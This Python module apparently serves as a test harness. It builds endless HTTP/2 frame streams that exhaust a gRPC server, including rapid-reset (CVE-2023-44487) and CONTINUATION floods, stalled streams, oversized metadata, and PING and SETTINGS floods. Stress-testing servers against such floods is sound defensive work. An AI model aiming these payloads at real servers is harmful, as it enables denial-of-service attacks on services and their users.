"""What an HTTP/2 client can do to a server on one connection, as frames without an end.

Each flood is a generator of bytes; what it sends is legal up to the point that its name says.
"""

from __future__ import annotations

import itertools
import struct
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
WINDOW_UPDATE = 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + stream.to_bytes(4, "big")
        + payload
    )


def number(value: int, prefix: int) -> bytes:
    """HPACK's integers (RFC 7541 5.1), in the low bits of the first byte."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes([value])
    out, value = [most], value - most
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes([*out, value])


def literal(name: bytes, value: bytes) -> bytes:
    """A header that is remembered nowhere (RFC 7541 6.2.2)."""
    return b"\0" + number(len(name), 7) + name + number(len(value), 7) + value


def request(path: str, *more: bytes) -> bytes:
    """The header block of a gRPC call."""
    return b"".join(
        (
            b"\x83\x86",  # :method POST, :scheme http
            literal(b":path", path.encode()),
            literal(b":authority", b"a"),
            literal(b"content-type", b"application/grpc"),
            literal(b"te", b"trailers"),
            *more,
        )
    )


GREET = request("/greet.GreetService/Greet")
WATCH = request("/grpc.health.v1.Health/Watch")
NOTHING = b"\0\0\0\0\0"  # a gRPC message that is empty
STREAMS = range(1, 2**31, 2)


def start(ack: bool = True) -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0) + (frame(SETTINGS, ACK, 0) if ack else b"")


def open_streams() -> Iterator[bytes]:
    """Calls that begin, and never say more."""
    for stream in STREAMS:
        yield frame(HEADERS, END_HEADERS, stream, GREET)


def watches() -> Iterator[bytes]:
    """Calls that are told of each change, for ever."""
    for stream in STREAMS:
        yield frame(HEADERS, END_HEADERS, stream, WATCH) + frame(DATA, END_STREAM, stream, NOTHING)


def rapid_reset() -> Iterator[bytes]:
    """Calls that are cancelled as soon as they begin (CVE-2023-44487)."""
    for stream in STREAMS:
        yield (
            frame(HEADERS, END_HEADERS, stream, GREET)
            + frame(DATA, END_STREAM, stream, NOTHING)
            + frame(RST_STREAM, 0, stream, bytes(4))
        )


def continuation() -> Iterator[bytes]:
    """One header block without an end (VU#421644), of many headers."""
    yield frame(HEADERS, 0, 1, GREET)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, literal(b"x", b"y")))


def endless_header() -> Iterator[bytes]:
    """The same, and all of it is one string."""
    yield frame(HEADERS, 0, 1, GREET + b"\0" + number(1, 7) + b"x" + number(2**30, 7))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, b"y" * 16384))


def huge_metadata() -> Iterator[bytes]:
    """Calls with as many headers as gRPC takes (8 KiB), that never say more."""
    block = request(
        "/greet.GreetService/Greet", *[literal(b"k%d" % i, b"v" * 500) for i in range(14)]
    )
    for stream in STREAMS:
        yield frame(HEADERS, END_HEADERS, stream, block)


def half_messages() -> Iterator[bytes]:
    """Calls with the most of a message of 4 MB, which is as much as gRPC takes."""
    length = 4 * 1024 * 1024 - 1
    for stream in STREAMS:
        yield frame(HEADERS, END_HEADERS, stream, GREET)
        yield frame(DATA, 0, stream, b"\0" + length.to_bytes(4, "big") + bytes(16000))
        for _ in range(3):
            yield frame(DATA, 0, stream, bytes(16000))


def pings() -> Iterator[bytes]:
    yield from itertools.repeat(frame(PING, 0, 0, bytes(8)))


def settings() -> Iterator[bytes]:
    yield from itertools.repeat(frame(SETTINGS, 0, 0))


def window_updates() -> Iterator[bytes]:
    yield from itertools.repeat(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))


# One client on many connections, on each of which it keeps to the bounds.


def some(flood: Callable[[], Iterator[bytes]], pieces: int) -> Callable[[], bytes]:
    def first() -> bytes:
        return b"".join(itertools.islice(flood(), pieces))

    first.__name__ = f"many_{flood.__name__}"
    return first


def silence() -> bytes:
    return b""


CROWDS = (
    (silence, 2000),
    (some(open_streams, 100), 200),
    (some(huge_metadata, 100), 200),
    (some(half_messages, 396), 100),
    (some(watches, 100), 200),
)
FLOODS = (
    open_streams,
    watches,
    rapid_reset,
    continuation,
    endless_header,
    huge_metadata,
    half_messages,
    pings,
    settings,
    window_updates,
)
